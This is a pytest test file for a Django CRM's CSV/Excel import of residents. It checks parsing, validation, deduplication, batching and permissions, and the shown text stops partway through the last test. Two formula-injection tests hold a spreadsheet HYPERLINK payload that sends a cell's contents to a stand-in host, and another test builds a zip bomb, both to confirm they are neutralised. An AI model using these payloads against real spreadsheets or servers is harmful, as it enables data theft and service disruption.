"""Importing an initiative's existing residents from CSV or Excel: read, map, check, confirm."""

from __future__ import annotations

import datetime as dt
import io
import re
import threading
import zipfile
from pathlib import Path

import openpyxl
import pytest
import time_machine
import xlsxwriter
from auditlog.models import LogEntry
from django.contrib import messages
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, connections, transaction
from django.urls import reverse
from django.utils import timezone

from accounts import access
from accounts.models import Membership
from accounts.roles import Role
from crm import importing, pipeline, services
from crm.models import Case, CaseEvent, CaseStatus, EventKind
from dossier.models import Dossier, Dwelling, Household
from tests.conftest import skip_or_fail

pytestmark = pytest.mark.django_db

HEADER = (
    "Voornaam;Tussenvoegsel;Achternaam;Straat;Huisnummer;Toevoeging;Postcode;Woonplaats;"
    "E-mailadres;Telefoon;Hulpvraag;Opmerkingen"
)
ROWS = (
    # Row 2: a new household; "a" in Toevoeging is the house letter, the phone lost its 0.
    "Jan;van der;Berg;Kerkstraat;12;a;3512 je;Utrecht;jan@example.org;612345678;"
    "Spouwmuur isoleren;Belt liever 's avonds",
    # Row 3: a new household with an addition.
    "Ans;;Smit;Dorpsstraat;7;2;3513AA;Utrecht;;030-1234567;Zonnepanelen;",
    # Row 4: everything wrong.
    "Piet;;Bakker;Laan;x;;1234;;piet@;abc;;",
    # Row 5: row 2's address again, spelt differently.
    "Jan;;Berg;Kerkstraat;12 A;;3512JE;Utrecht;;;;",
)
CSV_TEXT = "\n".join((HEADER, *ROWS)) + "\n"


@pytest.fixture(autouse=True)
def media(settings, tmp_path) -> Path:
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def csv_upload(text: str = CSV_TEXT, *, encoding: str = "utf-8", name: str = "lijst.csv"):
    return SimpleUploadedFile(name, text.encode(encoding), content_type="text/csv")


def xlsx_bytes(rows: list[list[object]], *, sheet: str = "Bewoners") -> bytes:
    workbook = openpyxl.Workbook()
    worksheet = workbook.active
    worksheet.title = sheet
    for row in rows:
        worksheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def table_of(data: bytes) -> importing.Table:
    return importing.table_read(io.BytesIO(data))


def stored_files(media: Path) -> list[Path]:
    return sorted(p for p in (media / importing.FOLDER).rglob("*") if p.is_file())


def db_counts() -> dict[str, int]:
    return {
        model.__name__: model.objects.count()
        for model in (Dwelling, Household, Dossier, Case, CaseEvent, LogEntry)
    }


def upload(client, file) -> str:
    """Upload a file as the logged-in coordinator; the upload's id."""
    response = client.post(reverse("crm:import-upload"), {"file": file})
    assert response.status_code == 302, response.context["form"].errors.as_data()
    match = re.fullmatch(r".*/importeren/([0-9a-f-]{36})/kolommen/", response["Location"])
    assert match, response["Location"]
    return match[1]


def accept_guess(client, upload_id: str, **changes: str):
    """Post the mapping screen with its first guess, changed where asked."""
    page = client.get(reverse("crm:import-mapping", args=[upload_id]))
    assert page.status_code == 200
    form = page.context["form"]
    data = {name: form[name].initial for name in form.fields}
    data.update(changes)
    return client.post(reverse("crm:import-mapping", args=[upload_id]), data)


def prepared(client, file=None) -> str:
    upload_id = upload(client, file or csv_upload())
    assert accept_guess(client, upload_id).status_code == 302
    return upload_id


def confirm(client, upload_id: str, capture):
    with capture(execute=True):
        return client.post(reverse("crm:import-confirm", args=[upload_id]))


# Reading the file ---------------------------------------------------------------------


def test_it_reads_a_semicolon_csv_with_a_bom():
    table = table_of(CSV_TEXT.encode("utf-8-sig"))

    assert table.kind == "csv"
    assert table.header[0] == "Voornaam"  # no BOM glued to the first name
    assert [number for number, _ in table.rows] == [2, 3, 4, 5]
    assert table.rows[0][1][:3] == ("Jan", "van der", "Berg")


def test_it_reads_a_comma_csv_with_quoted_commas_and_line_breaks():
    text = (
        "Naam,Postcode,Huisnummer,Opmerkingen\n"
        'Familie Klaver,3512 JE,4,"Bel eerst, dan mailen"\n'
        '"Jansen, K.",3513AA,9,"Twee\nregels"\n'
        "Familie Kok,3513AA,10,\n"
    )
    table = table_of(text.encode())

    assert table.header == ("Naam", "Postcode", "Huisnummer", "Opmerkingen")
    assert table.rows[0][1] == ("Familie Klaver", "3512 JE", "4", "Bel eerst, dan mailen")
    assert table.rows[1][1][0] == "Jansen, K." and table.rows[1][1][3] == "Twee\nregels"
    # A quoted cell over two lines is still one row in Excel: the next one is row 4.
    assert [number for number, _ in table.rows] == [2, 3, 4]


def test_it_falls_back_to_windows_1252_for_old_excel_csv():
    text = "Naam;Postcode;Huisnummer\nRenée Müller;3512JE;3\n"
    table = table_of(text.encode("cp1252"))

    assert table.rows[0][1][0] == "Renée Müller"


def test_it_reads_excel_unicode_text_with_tabs():
    table = table_of("Naam\tPostcode\tHuisnummer\nJosé\t3512JE\t3\n".encode("utf-16"))

    assert table.rows == ((2, ("José", "3512JE", "3")),)


def test_it_reads_a_real_xlsx_with_numbers_and_empty_rows():
    data = xlsx_bytes(
        [
            ["Naam", "Postcode", "Huisnummer", "Telefoon", "Lid"],
            ["Familie Klaver", "3512 JE", 12.0, 612345678, True],
            [None, None, None, None, None],
            ["Familie Kok", "3513AA", 7, None, False],
        ]
    )
    table = table_of(data)

    assert (table.kind, table.sheet) == ("xlsx", "Bewoners")
    assert table.rows == (
        (2, ("Familie Klaver", "3512 JE", "12", "612345678", "1")),
        (4, ("Familie Kok", "3513AA", "7", "", "0")),
    )


def test_it_reads_an_xlsx_with_shared_strings_as_excel_writes_them():
    out = io.BytesIO()
    workbook = xlsxwriter.Workbook(out, {"in_memory": True})
    sheet = workbook.add_worksheet("Export")
    for r, row in enumerate([["Achternaam", "Postcode", "Huisnr"], ["Kok", "3513AA", 7]]):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    workbook.close()

    table = table_of(out.getvalue())

    assert table.rows == ((2, ("Kok", "3513AA", "7")),)


# Guessing the columns --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (
            # An export from Econobis-like CRMs.
            "Voornaam;Tussenvoegsel;Achternaam;Straatnaam;Huisnummer;Huisnummer toevoeging;"
            "Postcode;Plaatsnaam;E-mailadres;Telefoonnummer;Opmerkingen",
            {
                "first_name": 0,
                "infix": 1,
                "last_name": 2,
                "street": 3,
                "house_number": 4,
                "addition": 5,
                "postcode": 6,
                "city": 7,
                "email": 8,
                "phone": 9,
                "notes": 10,
            },
        ),
        (
            "Naam;PC;Huisnr.;Toev.;Woonplaats;Mobiel;E-mail;Lid?",
            {
                "name": 0,
                "postcode": 1,
                "house_number": 2,
                "addition": 3,
                "city": 4,
                "phone": 5,
                "email": 6,
                "is_member": 7,
            },
        ),
        (
            "First name;Last name;Zip code;House number;Addition;Street;City;Email;Phone;Remarks",
            {
                "first_name": 0,
                "last_name": 1,
                "postcode": 2,
                "house_number": 3,
                "addition": 4,
                "street": 5,
                "city": 6,
                "email": 7,
                "phone": 8,
                "notes": 9,
            },
        ),
    ],
    ids=["econobis", "short-dutch", "english"],
)
def test_it_guesses_the_columns_from_dutch_and_english_names(header, expected):
    width = header.count(";") + 1
    table = table_of(f"{header}\n{';'.join(['x'] * width)}\n".encode())

    assert importing.mapping_guess(table) == expected


def test_one_address_column_serves_street_and_house_number():
    table = table_of(b"Naam;Adres;Postcode\nKok;Kerkstraat 12a;3512JE\nSmit;Laan 3-2;3513AA\n")

    mapping = importing.mapping_guess(table)

    assert mapping["street"] == mapping["house_number"] == 1
    assert importing.mapping_problems(mapping) == []


@pytest.mark.parametrize(
    ("mapping", "problems"),
    [
        ({"name": 0, "postcode": 1, "house_number": 2}, []),
        ({"last_name": 0, "postcode": 1, "house_number": 2}, []),
        ({"postcode": 1, "house_number": 2}, [("name", "name_required")]),
        ({"name": 0, "house_number": 2}, [("postcode", "required")]),
        ({"name": 0, "postcode": 1, "house_number": 1}, [("house_number", "column_twice")]),
        ({"name": 0, "postcode": 1, "house_number": 2, "street": 2}, []),
    ],
)
def test_a_mapping_needs_a_postcode_a_house_number_and_a_name(mapping, problems):
    assert importing.mapping_problems(mapping) == problems


# Checking the rows -----------------------------------------------------------------------


def test_every_row_is_checked_with_its_errors_by_row_number(cast):
    table = table_of(CSV_TEXT.encode())
    preview = importing.rows_check(
        table=table, mapping=importing.mapping_guess(table), initiative_id=cast.initiative_a.pk
    )
    rows = {row.row: row for row in preview.rows}

    assert rows[2].outcome == importing.Outcome.NEW
    assert rows[2].name == "Jan van der Berg"
    assert rows[2].address == importing.Address("3512JE", 12, "A", "")
    assert rows[2].phone == "0612345678"
    assert rows[3].address == importing.Address("3513AA", 7, "", "2")
    assert rows[4].outcome == importing.Outcome.ERROR
    assert {(e.field, e.code) for e in rows[4].errors} == {
        ("postcode", "invalid_postcode"),
        ("house_number", "invalid_house_number"),
        ("email", "invalid_email"),
        ("phone", "invalid_phone"),
    }
    assert (rows[5].outcome, rows[5].duplicate_of) == (importing.Outcome.DUPLICATE, 2)
    assert (preview.to_import, preview.skipped) == (2, 2)


@pytest.mark.parametrize(
    ("cells", "field", "code"),
    [
        ({"postcode": ""}, "postcode", "required"),
        ({"postcode": "3512SA"}, "postcode", "invalid_postcode"),
        ({"house_number": "0"}, "house_number", "invalid_house_number"),
        ({"house_number": "100000"}, "house_number", "invalid_house_number"),
        ({"addition": "ABCDE"}, "addition", "invalid_addition"),
        ({"name": ""}, "name", "name_required"),
        ({"name": "x" * 151}, "name", "max_length"),
        ({"phone": "06-123"}, "phone", "invalid_phone"),
        ({"email": "jan@@example.org"}, "email", "invalid_email"),
        ({"is_member": "misschien"}, "is_member", "invalid_member"),
        ({"wants_help_with": "x" * 2001}, "wants_help_with", "max_length"),
        ({"postcode": "=UPPER(B2)"}, "postcode", "formula"),
    ],
)
def test_a_row_error_names_its_field_and_code(cells, field, code):
    values = dict.fromkeys(importing.TARGET_KEYS, "")
    values.update(name="Familie Kok", postcode="3512JE", house_number="3")
    values.update(cells)

    check = importing.row_check(7, values)

    assert check.outcome == importing.Outcome.ERROR
    assert (field, code) in {(e.field, e.code) for e in check.errors}


def test_a_correct_row_is_normalised():
    values = dict.fromkeys(importing.TARGET_KEYS, "")
    values.update(
        last_name="Kok",
        infix="de",
        first_name="Ria",
        postcode=" 3512 je ",
        house_number="12a-1",
        phone="+31 (0)6 1234 5678",
        is_member="Ja",
    )

    check = importing.row_check(2, values)

    assert check.errors == []
    assert check.name == "Ria de Kok"
    assert check.address == importing.Address("3512JE", 12, "A", "1")
    assert check.is_member == "yes"


# Upload, map and preview write nothing ----------------------------------------------------


def test_upload_mapping_and_preview_write_nothing_to_the_database(cast, login, media, mailoutbox):
    client = login(cast.coordinator)
    before = db_counts()

    upload_id = prepared(client)
    preview = client.get(reverse("crm:import-preview", args=[upload_id]))

    assert preview.status_code == 200
    assert db_counts() == before
    assert mailoutbox == []
    # The file waits in private storage under the upload's random id, not its own name.
    names = {p.name for p in stored_files(media)}
    assert names == {"meta.json", "table.json", "mapping.json"}
    assert all(upload_id in str(p) for p in stored_files(media))
    assert not any("lijst" in str(p) for p in stored_files(media))


def test_the_preview_shows_each_rows_outcome_and_errors_by_row_number(cast, login):
    client = login(cast.coordinator)
    upload_id = prepared(client)

    response = client.get(reverse("crm:import-preview", args=[upload_id]))

    counts = response.context["counts"]
    assert (counts["total"], counts["to_import"], counts["error"], counts["duplicate"]) == (
        4,
        2,
        1,
        1,
    )
    html = response.content.decode()
    row_4 = re.search(r'<tr[^>]*id="row-4".*?</tr>', html, re.S)[0]
    assert 'data-outcome="error"' in row_4
    assert 'data-code="invalid_postcode"' in row_4 and 'data-code="invalid_email"' in row_4
    assert 'data-outcome="duplicate"' in re.search(r'<tr[^>]*id="row-5".*?</tr>', html, re.S)[0]
    assert 'href="?show=errors#row-4"' in html
    assert 'id="import-confirm"' in html
    only_errors = client.get(reverse("crm:import-preview", args=[upload_id]), {"show": "errors"})
    assert [row.row for row in only_errors.context["page"].object_list] == [4]


def test_the_mapping_screen_shows_samples_and_links_its_errors_to_the_fields(cast, login):
    client = login(cast.coordinator)
    upload_id = upload(client, csv_upload())

    page = client.get(reverse("crm:import-mapping", args=[upload_id]))
    assert "Kerkstraat" in page.content.decode()  # an example value of the street column
    response = accept_guess(client, upload_id, postcode="", first_name="", last_name="")

    assert response.status_code == 200
    errors = response.context["form"].errors.as_data()
    assert [e.code for e in errors["postcode"]] == ["required"]
    assert [e.code for e in errors["name"]] == ["name_required"]
    html = response.content.decode()
    assert 'href="#map_postcode"' in html and 'id="map_postcode"' in html
    assert 'aria-describedby="map_postcode_error' in html


# Confirming ---------------------------------------------------------------------------


def test_confirm_imports_the_valid_rows_like_a_sign_up_without_mail(
    cast, login, media, mailoutbox, django_capture_on_commit_callbacks
):
    client = login(cast.coordinator)
    upload_id = prepared(client)

    response = confirm(client, upload_id, django_capture_on_commit_callbacks)

    assert response.status_code == 302
    assert response["Location"] == reverse("crm:import-result", args=[upload_id])
    dwelling = Dwelling.objects.get(postcode="3512JE", house_number=12, house_letter="A")
    assert (dwelling.street, dwelling.city) == ("Kerkstraat", "Utrecht")
    household = Household.objects.get(dwelling=dwelling, initiative=cast.initiative_a)
    assert household.name == "Jan van der Berg"
    assert Dossier.objects.filter(household=household).exists()
    case = Case.objects.get(household=household)
    assert case.status == CaseStatus.NEW and case.initiative == cast.initiative_a
    assert (case.contact_email, case.contact_phone) == ("jan@example.org", "0612345678")
    assert case.wants_help_with == "Spouwmuur isoleren"
    # Nothing was accepted online, so nothing is recorded as accepted.
    assert (case.privacy_statement_version, case.privacy_accepted_at) == ("", None)
    events = list(case.events.order_by("pk"))
    assert [(e.kind, e.action) for e in events] == [
        (EventKind.STATUS_CHANGE, "open"),
        (EventKind.NOTE, importing.IMPORT_ACTION),
        (EventKind.NOTE, ""),
    ]
    assert all(e.actor == cast.coordinator for e in events)
    assert "2" in events[1].text  # the row number, to find the resident in the file
    assert events[2].text == "Belt liever 's avonds"
    assert Case.objects.filter(initiative=cast.initiative_a, household__name="Ans Smit").exists()
    # Two rows imported; the row with errors and the repeated address are not.
    assert Household.objects.filter(initiative=cast.initiative_a).count() == 2 + 2
    assert not Household.objects.filter(name="Piet Bakker").exists()
    assert mailoutbox == []
    # The residents' rows are gone from storage; the result (row numbers only) stays.
    assert {p.name for p in stored_files(media)} == {"meta.json", "mapping.json", "state.json"}
    result_page = client.get(response["Location"])
    result = result_page.context["state"]
    assert result.done
    assert (result.new_households, result.existing_households) == (2, 0)
    assert [row for row, *_ in result.skipped_rows] == [4, 5]
    assert 'id="row-4"' in result_page.content.decode()


def test_it_reuses_dwellings_and_households_and_leaves_open_cases_alone(
    cast, login, django_capture_on_commit_callbacks
):
    # Household A1 has an open case; A2's case was closed; B1's dwelling is only B's. A
    # row is a known household by its e-mail address, never by the address alone.
    open_case = services.case_open(
        household=cast.household_a, wants_help_with="Eerder", contact_email="a1@example.org"
    )
    closed = services.case_open(household=cast.household_a2, contact_email="a2@example.org")
    Case.objects.filter(pk=closed.pk).update(status=pipeline.CLOSED, closed_at=timezone.now())
    rows = [
        f"{name};{h.dwelling.postcode};{h.dwelling.house_number};{email}"
        for name, h, email in (
            ("Nieuwe naam A1", cast.household_a, "A1@example.org"),
            ("Nieuwe naam A2", cast.household_a2, "a2@example.org"),
            ("Buren van B1", cast.household_b, "x@example.org"),
        )
    ]
    text = "Naam;Postcode;Huisnummer;E-mail\n" + "\n".join(rows) + "\n"
    client = login(cast.coordinator)
    dwellings = Dwelling.objects.count()
    a1_events = open_case.events.count()

    upload_id = prepared(client, csv_upload(text))
    preview = client.get(reverse("crm:import-preview", args=[upload_id]))
    assert [r.outcome for r in preview.context["preview"].rows] == [
        importing.Outcome.OPEN_CASE,
        importing.Outcome.EXISTING_HOUSEHOLD,
        importing.Outcome.NEW,
    ]
    confirm(client, upload_id, django_capture_on_commit_callbacks)

    assert Dwelling.objects.count() == dwellings
    open_case.refresh_from_db()
    assert (open_case.wants_help_with, open_case.contact_email) == ("Eerder", "a1@example.org")
    assert open_case.events.count() == a1_events
    assert Case.objects.filter(household=cast.household_a).count() == 1
    a2_cases = Case.objects.filter(household=cast.household_a2).order_by("pk")
    assert [c.status for c in a2_cases] == [pipeline.CLOSED, CaseStatus.NEW]
    cast.household_a2.refresh_from_db()
    assert cast.household_a2.name == "Familie Beta"  # a known household keeps its name
    shared = Household.objects.get(dwelling=cast.household_b.dwelling, initiative=cast.initiative_a)
    assert shared.name == "Buren van B1"
    assert Case.objects.filter(household=cast.household_b).count() == 0


def test_importing_the_same_file_again_creates_nothing(
    cast, login, django_capture_on_commit_callbacks
):
    client = login(cast.coordinator)
    confirm(client, prepared(client), django_capture_on_commit_callbacks)
    after_first = db_counts()

    second = prepared(client)
    preview = client.get(reverse("crm:import-preview", args=[second]))
    assert preview.context["counts"]["to_import"] == 0
    assert 'id="import-confirm"' not in preview.content.decode()
    confirm(client, second, django_capture_on_commit_callbacks)

    counts = db_counts()
    counts.pop("LogEntry")
    after_first.pop("LogEntry")
    assert counts == after_first
    result = client.get(reverse("crm:import-result", args=[second])).context["state"]
    assert result.cases == 0 and result.open_case_rows == (2, 3)


def test_a_double_confirm_imports_once(cast, login, django_capture_on_commit_callbacks):
    client = login(cast.coordinator)
    upload_id = prepared(client)

    first = confirm(client, upload_id, django_capture_on_commit_callbacks)
    client.get(first["Location"])  # the browser follows the redirect and shows the message
    after_first = db_counts()
    second = confirm(client, upload_id, django_capture_on_commit_callbacks)

    assert first.status_code == second.status_code == 302
    assert db_counts() == after_first
    assert Case.objects.filter(initiative=cast.initiative_a).count() == 2
    assert [m.level for m in get_messages(second.wsgi_request)] == [messages.INFO]


def test_without_its_progress_file_a_repeated_import_still_adds_nothing(cast, login, media):
    # The second line of defence: the households and their open cases themselves.
    client = login(cast.coordinator)
    upload_id = prepared(client)
    found = importing.import_upload_get(upload_id=upload_id, user=cast.coordinator)

    first = importing.residents_import(upload=found, actor=cast.coordinator)
    after_first = db_counts()
    (media / importing.FOLDER / upload_id / "state.json").unlink()
    second = importing.residents_import(upload=found, actor=cast.coordinator)

    assert (first.cases, first.already_done) == (2, False)
    assert (second.cases, second.already_done, second.open_case_rows) == (0, False, (2, 3))
    assert db_counts() == after_first


def test_a_large_file_is_imported_in_batches_that_go_on_by_themselves(
    cast, login, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(importing, "BATCH", 1)
    client = login(cast.coordinator)
    upload_id = prepared(client)
    confirm_url = reverse("crm:import-confirm", args=[upload_id])

    first = confirm(client, upload_id, django_capture_on_commit_callbacks)
    assert Case.objects.filter(initiative=cast.initiative_a).count() == 1
    progress = client.get(first["Location"])
    html = progress.content.decode()
    assert progress.context["state"].position == 1 and not progress.context["state"].done
    assert f'hx-post="{confirm_url}" hx-trigger="load' in html
    assert 'id="import-continue"' in html  # the way on without JavaScript
    paused = client.get(first["Location"], {"pause": "1"}).content.decode()
    assert "hx-trigger" not in paused and 'id="import-continue"' in paused
    # The preview and the columns are closed while the import is under way.
    assert (
        client.get(reverse("crm:import-preview", args=[upload_id]))["Location"]
        == (first["Location"])
    )

    with django_capture_on_commit_callbacks(execute=True):
        second = client.post(confirm_url, headers={"HX-Request": "true"})
    assert second.status_code == 200 and 'hx-trigger="load' in second.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        last = client.post(confirm_url, headers={"HX-Request": "true"})

    assert last["HX-Redirect"] == first["Location"]
    state = client.get(first["Location"]).context["state"]
    assert state.done and (state.new_households, state.position, state.total) == (2, 4, 4)
    assert [row for row, *_ in state.skipped_rows] == [4, 5]
    assert Case.objects.filter(initiative=cast.initiative_a).count() == 2


def test_a_batch_that_was_rolled_back_is_imported_again(cast, login, monkeypatch):
    monkeypatch.setattr(importing, "BATCH", 1)
    client = login(cast.coordinator)
    upload_id = prepared(client)
    found = importing.import_upload_get(upload_id=upload_id, user=cast.coordinator)

    # The batch writes its progress before its transaction ends; the transaction fails.
    with pytest.raises(RuntimeError), transaction.atomic():
        importing.residents_import(upload=found, actor=cast.coordinator)
        raise RuntimeError

    assert not Case.objects.filter(initiative=cast.initiative_a).exists()
    found = importing.import_upload_get(upload_id=upload_id, user=cast.coordinator)
    assert found.state is None
    state = importing.residents_import(upload=found, actor=cast.coordinator, batch=10)
    assert state.done and state.new_households == 2
    assert Case.objects.filter(initiative=cast.initiative_a).count() == 2


def test_formula_cells_are_stored_as_plain_text(cast, login, django_capture_on_commit_callbacks):
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"Klik hier")'
    text = (
        "Naam;Postcode;Huisnummer;Opmerkingen\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}";3512JE;5;=1+1\n'
        "Familie Kok;=B2;6;\n"
    )
    client = login(cast.coordinator)
    upload_id = prepared(client, csv_upload(text))

    html = client.get(reverse("crm:import-preview", args=[upload_id])).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example/?d=&quot;&amp;A2" in html
    assert 'href="http://evil.example' not in html
    row_3 = re.search(r'<tr[^>]*id="row-3".*?</tr>', html, re.S)[0]
    assert 'data-code="formula"' in row_3
    confirm(client, upload_id, django_capture_on_commit_callbacks)

    household = Household.objects.get(dwelling__postcode="3512JE", dwelling__house_number=5)
    assert household.name == formula
    notes = CaseEvent.objects.filter(case__household=household, action="").values_list(
        "text", flat=True
    )
    assert list(notes) == ["=1+1"]


def test_an_excel_formula_is_imported_as_its_text_never_its_result(
    cast, login, django_capture_on_commit_callbacks
):
    formula = '=HYPERLINK("http://evil.example","Klik")'
    data = xlsx_bytes([["Naam", "Postcode", "Huisnummer"], [formula, "3512JE", 8]])
    client = login(cast.coordinator)
    upload_id = prepared(client, SimpleUploadedFile("lijst.xlsx", data))

    confirm(client, upload_id, django_capture_on_commit_callbacks)

    assert Household.objects.get(dwelling__house_number=8, dwelling__postcode="3512JE").name == (
        formula
    )


def test_an_xlsx_goes_through_the_whole_import(cast, login, django_capture_on_commit_callbacks):
    data = xlsx_bytes(
        [
            ["Achternaam", "Voornaam", "Postcode", "Huisnummer", "Toevoeging", "Telefoon"],
            ["Kok", "Ria", "3513 aa", 14, "bis", 301234567],
        ]
    )
    client = login(cast.coordinator)
    upload_id = prepared(client, SimpleUploadedFile("export.xlsx", data))

    confirm(client, upload_id, django_capture_on_commit_callbacks)

    case = Case.objects.get(household__dwelling__postcode="3513AA")
    assert case.household.name == "Ria Kok"
    assert case.household.dwelling.house_number_addition == "BIS"
    assert case.contact_phone == "0301234567"


# Files that will not do ----------------------------------------------------------------


def _too_many_rows() -> bytes:
    lines = ["Naam;Postcode;Huisnummer"]
    lines += [f"Bewoner {n};3512JE;{n}" for n in range(1, importing.MAX_ROWS + 2)]
    return "\n".join(lines).encode()


BAD_FILES = {
    "too_large": (
        "groot.csv",
        b"Naam;Postcode;Huisnummer\n" + b"Jan;3512JE;1\n" * (importing.MAX_BYTES // 13 + 1),
    ),
    "pdf": ("lijst.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"),
    "png": ("lijst.xlsx", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 40),
    "xls": ("lijst.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500),
    "docx": ("lijst.xlsx", b""),  # filled in below: a zip that is no workbook
    "empty": ("leeg.csv", b""),
    "blank": ("leeg.csv", b"\n\n  \n"),
    "no_header": ("lijst.csv", b"Jan;3512JE;1\nPiet;3513AA;2\n"),
    "only_header": ("lijst.csv", b"Naam;Postcode;Huisnummer\n"),
    "one_column": ("lijst.csv", b"Naam\nJan\n"),
    "too_many_rows": ("lang.csv", _too_many_rows()),
}
_docx = io.BytesIO()
with zipfile.ZipFile(_docx, "w") as _zip:
    _zip.writestr("word/document.xml", "<w:document/>")
BAD_FILES["docx"] = ("lijst.xlsx", _docx.getvalue())
_ods = io.BytesIO()
with zipfile.ZipFile(_ods, "w") as _zip:
    _zip.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
    _zip.writestr("content.xml", "<office:document-content/>")
BAD_FILES["ods"] = ("lijst.ods", _ods.getvalue())
EXPECTED_CODE = {
    "too_large": "too_large",
    "pdf": "wrong_type",
    "png": "wrong_type",
    "xls": "xls",
    "ods": "ods",
    "docx": "wrong_type",
    "empty": "empty",
    "blank": "empty",
    "no_header": "no_header",
    "only_header": "no_rows",
    "one_column": "one_column",
    "too_many_rows": "too_many_rows",
}


@pytest.mark.parametrize("kind", sorted(BAD_FILES))
def test_a_bad_file_is_refused_with_a_reason_and_nothing_is_kept(cast, login, media, kind):
    client = login(cast.coordinator)
    name, content = BAD_FILES[kind]
    before = db_counts()

    response = client.post(
        reverse("crm:import-upload"), {"file": SimpleUploadedFile(name, content)}
    )

    assert response.status_code == 200
    assert [e.code for e in response.context["form"].errors.as_data()["file"]] == [
        EXPECTED_CODE[kind]
    ]
    html = response.content.decode()
    assert 'href="#id_file"' in html and 'aria-describedby="id_file_helptext id_file_error"' in html
    assert not (media / importing.FOLDER).exists() or stored_files(media) == []
    assert db_counts() == before


def test_a_workbook_that_would_unpack_into_too_much_is_refused_before_reading_it():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/workbook.xml", "<workbook/>")
        with bomb.open("xl/worksheets/sheet1.xml", "w") as sheet:
            chunk = b"0" * (1024 * 1024)
            for _ in range(importing.MAX_UNPACKED_BYTES // len(chunk) + 1):
                sheet.write(chunk)
    assert len(out.getvalue()) < importing.MAX_BYTES

    with pytest.raises(ValidationError) as refused:
        table_of(out.getvalue())

    assert refused.value.code == "too_large"


def test_the_row_limit_is_exact():
    lines = ["Naam;Postcode;Huisnummer"]
    lines += [f"Bewoner {n};3512JE;{n}" for n in range(1, importing.MAX_ROWS + 1)]

    table = table_of("\n".join(lines).encode())

    assert len(table.rows) == importing.MAX_ROWS
    with pytest.raises(ValidationError) as refused:
        table_of(_too_many_rows())
    assert refused.value.code == "too_many_rows"


# Who may import --------------------------------------------------------------------------


def step_urls(upload_id: str) -> list[tuple[str, str]]:
    return [
        ("get", reverse("crm:import-mapping", args=[upload_id])),
        ("get", reverse("crm:import-preview", args=[upload_id])),
        ("get", reverse("crm:import-result", args=[upload_id])),
        ("post", reverse("crm:import-mapping", args=[upload_id])),
        ("post", reverse("crm:import-confirm", args=[upload_id])),
        ("post", reverse("crm:import-cancel", args=[upload_id])),
    ]


@pytest.fixture
def prepared_by_coordinator(cast, client, login) -> str:
    upload_id = prepared(login(cast.coordinator))
    client.logout()
    return upload_id


def test_anonymous_visitors_are_sent_to_the_login(cast, client, prepared_by_coordinator, media):
    before = db_counts()
    urls = [("get", reverse("crm:import-upload")), *step_urls(prepared_by_coordinator)]

    responses = [getattr(client, method)(url) for method, url in urls]

    assert all(r.status_code == 302 and "/login/" in r["Location"] for r in responses)
    assert db_counts() == before
    assert len(stored_files(media)) == 3


@pytest.mark.parametrize("who", ["alice", "resident", "municipality_staff"])
def test_only_coordinators_may_import(cast, login, who, prepared_by_coordinator, media):
    client = login(getattr(cast, who))
    before = db_counts()
    urls = [("get", reverse("crm:import-upload")), *step_urls(prepared_by_coordinator)]

    responses = [getattr(client, method)(url) for method, url in urls]
    posted = client.post(reverse("crm:import-upload"), {"file": csv_upload()})

    assert [r.status_code for r in responses] == [403] * len(urls)
    assert posted.status_code == 403
    assert db_counts() == before
    assert len(stored_files(media)) == 3


def test_another_initiatives_coordinator_finds_no_upload(
    cast, login, prepared_by_coordinator, media, django_capture_on_commit_callbacks
):
    client = login(cast.coordinator_b)
    before = db_counts()

    with django_capture_on_commit_callbacks(execute=True):
        responses = [
            getattr(client, method)(url) for method, url in step_urls(prepared_by_coordinator)
        ]
    into_a = client.post(
        reverse("crm:import-upload"),
        {"initiative": cast.initiative_a.pk, "file": csv_upload()},
    )

    assert [r.status_code for r in responses] == [404] * len(responses)
    assert into_a.status_code == 404
    assert db_counts() == before
    assert len(stored_files(media)) == 3
    # Their own page works, for their own initiative.
    assert client.get(reverse("crm:import-upload")).status_code == 200


def test_a_coordinator_who_lost_the_role_can_no_longer_use_their_upload(
    cast, login, prepared_by_coordinator
):
    cast.coordinator.memberships.update(role=Role.COACH)
    access.forget_roles(cast.coordinator)
    client = login(cast.coordinator)

    response = client.post(reverse("crm:import-confirm", args=[prepared_by_coordinator]))

    assert response.status_code == 403
    assert (
        importing.import_upload_get(upload_id=prepared_by_coordinator, user=cast.coordinator)
        is None
    )
    assert not Case.objects.filter(initiative=cast.initiative_a).exists()


def test_a_coordinator_of_two_initiatives_chooses_one(cast, login, media):
    Membership.objects.create(
        user=cast.coordinator, organisation=cast.initiative_b, role=Role.COORDINATOR
    )
    client = login(cast.coordinator)

    missing = client.post(reverse("crm:import-upload"), {"file": csv_upload()})
    chosen = client.post(
        reverse("crm:import-upload"), {"initiative": cast.initiative_b.pk, "file": csv_upload()}
    )

    assert missing.status_code == 200 and "initiative" in missing.context["form"].errors
    assert chosen.status_code == 302
    upload_id = chosen["Location"].split("/")[-3]
    found = importing.import_upload_get(upload_id=upload_id, user=cast.coordinator)
    assert found.initiative_id == cast.initiative_b.pk


# Keeping and deleting the file -----------------------------------------------------------


def test_an_upload_older_than_a_day_is_deleted_and_must_be_uploaded_again(cast, login, media):
    client = login(cast.coordinator)
    upload_id = prepared(client)

    with time_machine.travel(timezone.now() + dt.timedelta(hours=25)):
        # A session lasts 12 hours: this is the next day's login.
        response = login(cast.coordinator).get(reverse("crm:import-preview", args=[upload_id]))

    assert response.status_code == 302
    assert response["Location"] == reverse("crm:import-upload")
    assert stored_files(media) == []


def test_the_purge_deletes_uploads_older_than_a_day_only(cast, login, media):
    client = login(cast.coordinator)
    old = prepared(client)
